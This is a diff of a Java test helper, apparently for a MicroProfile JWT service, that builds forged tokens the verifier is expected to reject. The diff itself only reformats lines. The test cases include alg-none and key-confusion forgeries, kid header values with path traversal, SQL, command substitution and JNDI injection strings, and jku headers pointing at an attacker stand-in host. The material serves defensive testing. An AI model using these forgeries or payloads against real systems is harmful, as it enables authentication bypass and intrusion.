@@ -85,7 +85,9 @@ public final class ForgedTokens {
         for (String alg : new String[] {"none", "None", "NONE", "nOnE", "", "null", " none", "none\\u0000"}) {
             String head = "{\"alg\":\"" + alg + "\"}";
             add("alg '" + alg + "' and no signature", encode(head) + "." + encode(claims) + ".");
-            add("alg '" + alg + "' and a signature", encode(head) + "." + encode(claims) + "." + BASE64.encodeToString(sign("SHA256withRSA", key, "x")));
+            add(
+                    "alg '" + alg + "' and a signature",
+                    encode(head) + "." + encode(claims) + "." + BASE64.encodeToString(sign("SHA256withRSA", key, "x")));
         }
         add("alg none without the last dot", encode("{\"alg\":\"none\"}") + "." + encode(claims));
         add("no alg", encode("{\"typ\":\"JWT\"}") + "." + encode(claims) + ".");
@@ -108,7 +110,9 @@ public final class ForgedTokens {
             add(alg + " with the public key as PEM", hmac(alg, mac, bytes(pem)));
             add(alg + " with the public key as PEM and a newline", hmac(alg, mac, bytes(pem + "\n")));
             add(alg + " with the modulus", hmac(alg, mac, bytes(modulus)));
-            add(alg + " with the bytes of the modulus", hmac(alg, mac, unsigned(publicKey.getModulus().toByteArray())));
+            add(
+                    alg + " with the bytes of the modulus",
+                    hmac(alg, mac, unsigned(publicKey.getModulus().toByteArray())));
             add(alg + " with one zero", hmac(alg, mac, new byte[1]));
             add(alg + " with a word", hmac(alg, mac, bytes("secret")));
         }
@@ -117,16 +121,36 @@ public final class ForgedTokens {
     private void ofOtherKeys() throws GeneralSecurityException {
         add("of another key", compact(RS256, claims, "SHA256withRSA", otherRsa.getPrivate()));
         for (String kid : new String[] {
-            "1", "../../../../dev/null", "/dev/null", "file:///etc/passwd", "http://169.254.169.254/", "' UNION SELECT 'key'--",
-            "$(id)", "\\u0000", "*", "a|b", "${jndi:ldap://x.example/a}"
+            "1",
+            "../../../../dev/null",
+            "/dev/null",
+            "file:///etc/passwd",
+            "http://169.254.169.254/",
+            "' UNION SELECT 'key'--",
+            "$(id)",
+            "\\u0000",
+            "*",
+            "a|b",
+            "${jndi:ldap://x.example/a}"
         }) {
-            add("of another key, kid " + kid, compact("{\"alg\":\"RS256\",\"kid\":\"" + kid + "\"}", claims, "SHA256withRSA", otherRsa.getPrivate()));
+            add(
+                    "of another key, kid " + kid,
+                    compact(
+                            "{\"alg\":\"RS256\",\"kid\":\"" + kid + "\"}",
+                            claims,
+                            "SHA256withRSA",
+                            otherRsa.getPrivate()));
         }
         String right = signed(RS256, claims);
         String[] parts = right.split("\\.", -1);
         add("a changed payload", parts[0] + "." + encode(claims.replace("alice", "bobby")) + "." + parts[2]);
-        add("a changed head", encode("{\"alg\":\"RS256\",\"typ\":\"JWT\",\"kid\":\"x\"}") + "." + parts[1] + "." + parts[2]);
-        add("the signature of another token", parts[0] + "." + parts[1] + "." + signed(RS256, claims("\"jti\":\"x\"")).split("\\.", -1)[2]);
+        add(
+                "a changed head",
+                encode("{\"alg\":\"RS256\",\"typ\":\"JWT\",\"kid\":\"x\"}") + "." + parts[1] + "." + parts[2]);
+        add(
+                "the signature of another token",
+                parts[0] + "." + parts[1] + "."
+                        + signed(RS256, claims("\"jti\":\"x\"")).split("\\.", -1)[2]);
         add("a truncated signature", right.substring(0, right.length() - 8));
         add("a longer signature", right + "AAAA");
         add("a signature of zeros", parts[0] + "." + parts[1] + "." + "A".repeat(342));
@@ -146,14 +170,19 @@ public final class ForgedTokens {
         pss.update(bytes(unsigned));
         add("PS256 of the right key", unsigned + "." + BASE64.encodeToString(pss.sign()));
         for (String alg : new String[] {"ES256", "ES384", "ES512", "ES256K", "EdDSA", "Ed25519"}) {
-            add(alg + " of another key", compact("{\"alg\":\"" + alg + "\"}", claims, "SHA256withECDSAinP1363Format", otherEc.getPrivate()));
+            add(
+                    alg + " of another key",
+                    compact("{\"alg\":\"" + alg + "\"}", claims, "SHA256withECDSAinP1363Format", otherEc.getPrivate()));
         }
-        add("ES256 with a signature of zeros", encode("{\"alg\":\"ES256\"}") + "." + encode(claims) + "." + BASE64.encodeToString(new byte[64]));
+        add(
+                "ES256 with a signature of zeros",
+                encode("{\"alg\":\"ES256\"}") + "." + encode(claims) + "." + BASE64.encodeToString(new byte[64]));
     }
 
     private void withHeadersThatNameAKey() throws GeneralSecurityException {
         RSAPublicKey other = (RSAPublicKey) otherRsa.getPublic();
-        String jwk = "{\"kty\":\"RSA\",\"n\":\"%s\",\"e\":\"AQAB\"}".formatted(BASE64.encodeToString(unsigned(other.getModulus().toByteArray())));
+        String jwk = "{\"kty\":\"RSA\",\"n\":\"%s\",\"e\":\"AQAB\"}"
+                .formatted(BASE64.encodeToString(unsigned(other.getModulus().toByteArray())));
         for (String header : new String[] {
             "\"jwk\":" + jwk,
             "\"jku\":\"https://evil.example/jwks.json\"",
@@ -162,7 +191,9 @@ public final class ForgedTokens {
             "\"x5c\":[\"" + Base64.getEncoder().encodeToString(other.getEncoded()) + "\"]",
             "\"x5t\":\"AAAA\""
         }) {
-            add("of another key that it names itself: " + header, compact("{\"alg\":\"RS256\"," + header + "}", claims, "SHA256withRSA", otherRsa.getPrivate()));
+            add(
+                    "of another key that it names itself: " + header,
+                    compact("{\"alg\":\"RS256\"," + header + "}", claims, "SHA256withRSA", otherRsa.getPrivate()));
         }
     }
 
@@ -194,21 +225,34 @@ public final class ForgedTokens {
         add("an empty payload", parts[0] + ".." + parts[2]);
         add("a blank before a segment", parts[0] + ". " + parts[1] + "." + parts[2]);
         add("twice", right + "," + right);
-        add("JSON with two signatures", "{\"payload\":\"" + parts[1] + "\",\"signatures\":[{\"protected\":\"" + parts[0] + "\",\"signature\":\"" + parts[2] + "\"},{\"protected\":\"" + parts[0] + "\",\"signature\":\"AA\"}]}");
-        add("JSON", "{\"payload\":\"" + parts[1] + "\",\"protected\":\"" + parts[0] + "\",\"signature\":\"" + parts[2] + "\"}");
+        add(
+                "JSON with two signatures",
+                "{\"payload\":\"" + parts[1] + "\",\"signatures\":[{\"protected\":\"" + parts[0] + "\",\"signature\":\""
+                        + parts[2] + "\"},{\"protected\":\"" + parts[0] + "\",\"signature\":\"AA\"}]}");
+        add(
+                "JSON",
+                "{\"payload\":\"" + parts[1] + "\",\"protected\":\"" + parts[0] + "\",\"signature\":\"" + parts[2]
+                        + "\"}");
         add("a payload that is no JSON", signed(RS256, "alice"));
         add("a payload that is a list", signed(RS256, "[\"alice\"]"));
         add("a payload of a claim twice", signed(RS256, claims("").replaceFirst("\\{", "{\"sub\":\"bobby\",")));
         add("a payload with something behind", signed(RS256, claims + "{}"));
-        add("a right token in one of another key", compact("{\"alg\":\"RS256\",\"cty\":\"JWT\"}", right, "SHA256withRSA", otherRsa.getPrivate()));
-        add("a right token in one without signature", encode("{\"alg\":\"none\",\"cty\":\"JWT\"}") + "." + encode(right) + ".");
+        add(
+                "a right token in one of another key",
+                compact("{\"alg\":\"RS256\",\"cty\":\"JWT\"}", right, "SHA256withRSA", otherRsa.getPrivate()));
+        add(
+                "a right token in one without signature",
+                encode("{\"alg\":\"none\",\"cty\":\"JWT\"}") + "." + encode(right) + ".");
         add("8 KiB of a", "a".repeat(8_192));
     }
 
     private void ofAnotherIssuerOrAudience() throws GeneralSecurityException {
         claim("another issuer", "iss", "\"https://evil.example\"");
         claim("an issuer with a slash more", "iss", "\"" + config("mp.jwt.verify.issuer") + "/\"");
-        claim("an issuer in capitals", "iss", "\"" + config("mp.jwt.verify.issuer").toUpperCase(java.util.Locale.ROOT) + "\"");
+        claim(
+                "an issuer in capitals",
+                "iss",
+                "\"" + config("mp.jwt.verify.issuer").toUpperCase(java.util.Locale.ROOT) + "\"");
         claim("no issuer", "iss", null);
         claim("a null issuer", "iss", "null");
         claim("an empty issuer", "iss", "\"\"");
@@ -221,7 +265,10 @@ public final class ForgedTokens {
         claim("an empty list of audiences", "aud", "[]");
         claim("an audience that is a number", "aud", "1");
         claim("an audience that is an object", "aud", "{\"" + config("mp.jwt.verify.audiences") + "\":true}");
-        claim("a part of the audience", "aud", "\"" + config("mp.jwt.verify.audiences").substring(1) + "\"");
+        claim(
+                "a part of the audience",
+                "aud",
+                "\"" + config("mp.jwt.verify.audiences").substring(1) + "\"");
     }
 
     private void ofAnotherTime() throws GeneralSecurityException {
@@ -260,7 +307,8 @@ public final class ForgedTokens {
         tokens.add(new Forged(why, token, "unauthenticated"));
     }
 
-    private void claim(String why, String name, @org.jspecify.annotations.Nullable String value) throws GeneralSecurityException {
+    private void claim(String why, String name, @org.jspecify.annotations.Nullable String value)
+            throws GeneralSecurityException {
         add(why, signed(RS256, claims(name, value)));
     }
 
@@ -298,7 +346,8 @@ public final class ForgedTokens {
         return compact(head, payload, "SHA256withRSA", key);
     }
 
-    private static String compact(String head, String payload, String algorithm, PrivateKey key) throws GeneralSecurityException {
+    private static String compact(String head, String payload, String algorithm, PrivateKey key)
+            throws GeneralSecurityException {
         String unsigned = encode(head) + "." + encode(payload);
         return unsigned + "." + BASE64.encodeToString(sign(algorithm, key, unsigned));
     }
